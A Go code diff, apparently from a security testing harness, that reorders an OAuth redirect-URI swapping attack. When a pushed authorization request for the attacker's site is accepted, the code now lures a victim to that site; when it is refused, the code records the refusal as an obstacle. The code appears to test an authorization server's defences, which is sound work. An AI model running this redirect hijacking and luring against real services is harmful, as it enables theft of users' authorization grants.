@@ -44,11 +44,6 @@ func redirectSwap(ctx context.Context, g *attack.Given) (attack.Result, error) {
 		return attack.Result{}, err
 	}
 	defer closeSite()
-	if oauth.Pushes() {
-		if err := pushSwapped(ctx, g, p, oauth, site); err != nil {
-			return attack.Result{}, err
-		}
-	}
 	spellings, taken := swapped(g.RedirectURI, site), ""
 	for _, uri := range spellings {
 		link := strings.Replace(oauth.Draft().URL, one(g.RedirectURI), uri.query(), 1)
@@ -67,26 +62,32 @@ func redirectSwap(ctx context.Context, g *attack.Given) (attack.Result, error) {
 		return attack.Result{}, fmt.Errorf("the authorization server takes %s for an address of the app's, and no web site of ours is there", taken)
 	}
 	g.Say("Asked with %d other addresses, from a web site of ours to the right one with another ending: the page says each time that it leads nobody there.", len(spellings))
+	if oauth.Pushes() {
+		return pushSwapped(ctx, g, p, oauth, site)
+	}
 	return attack.Result{Obstacle: "the authorization server leads nobody to an address that is not registered, byte for byte"}, nil
 }
 
 // pushSwapped pushes a request for another address, where requests are pushed: an issuer that takes it
 // would lead a user there. That takes a client integrity token, and the attack has none.
-func pushSwapped(ctx context.Context, g *attack.Given, p *attack.Program, oauth *protect.OAuth, site string) error {
+func pushSwapped(ctx context.Context, g *attack.Given, p *attack.Program, oauth *protect.OAuth, site string) (attack.Result, error) {
 	request, err := url.Parse(oauth.Draft(oauth2.SetAuthURLParam("redirect_uri", site+"/callback")).URL)
 	if err != nil {
-		return err
+		return attack.Result{}, err
 	}
-	_, err = oauth.Push(ctx, p.Client, request.Query())
+	page, err := oauth.Push(ctx, p.Client, request.Query())
 	var refused *protect.GrantError
 	switch {
-	case err == nil:
-		return errors.New("the issuer takes a request for a web site of ours, pushed by nobody")
-	case !errors.As(err, &refused):
-		return err
+	case errors.As(err, &refused):
+		g.Say("No request is taken out of the page's address here. Pushed one: %s. Whoever pushes has to be a genuine app.", refused.Code)
+		return attack.Result{Obstacle: "the mediator takes requests from genuine apps alone"}, nil
+	case err != nil:
+		return attack.Result{}, err
+	case g.Lured == nil:
+		return attack.Result{}, errors.New("the issuer takes a request for a web site of ours")
 	}
-	g.Say("Pushed a request for %s: %s. Who pushes has to be a genuine app. So try without.", site, refused.Code)
-	return nil
+	g.Say("The mediator takes a request for a web site of ours. Send the victim a link to its page.")
+	return lure(ctx, g, page, site+"/callback", site)
 }
 
 // lure has the victim follow a link, and uses what they bring to the attacker's web site.
